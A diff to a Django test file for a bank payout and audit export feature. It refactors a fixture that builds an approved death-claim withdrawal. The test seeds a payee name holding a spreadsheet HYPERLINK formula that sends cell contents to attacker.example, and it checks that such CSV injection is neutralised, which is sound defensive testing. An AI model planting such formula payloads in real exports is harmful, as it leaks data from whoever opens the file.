@@ -2,7 +2,6 @@
 neutralised, in the bank's payout batch as in the audit export."""
 
 import io
-from datetime import date
 
 import pytest
 from django.core.management import call_command
@@ -10,8 +9,8 @@ from django.urls import reverse
 
 from core import csv
 from tests.conftest import otp_login
-from tests.factories import death_claim, staff_with, verify_applicant
-from withdrawals import payout_files, services
+from tests.factories import approve_claim, death_claim, staff_with
+from withdrawals import payout_files
 from withdrawals.models import Status
 
 HOSTILE_PAYEE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
@@ -73,18 +72,9 @@ def hostile_payout(db, django_capture_on_commit_callbacks):
     type(application).objects.filter(pk=application.pk).update(
         bank_account_holder=HOSTILE_PAYEE, bank_name="  +Bank of Example"
     )
-    with django_capture_on_commit_callbacks(execute=True):
-        services.application_submit(application, actor=application.applicant)
-    application.refresh_from_db()
-    services.cardholder_verify_death(
-        application,
-        actor=staff_with("verify_life_event"),
-        date_of_death=date(2026, 1, 2),
-        certificate_number="DC-9",
+    application = approve_claim(
+        application, django_capture_on_commit_callbacks, certificate_number="DC-9"
     )
-    verify_applicant(application)
-    services.application_approve(application, actor=staff_with("approve_application"))
-    application.refresh_from_db()
     assert application.status == Status.APPROVED
     return application
 
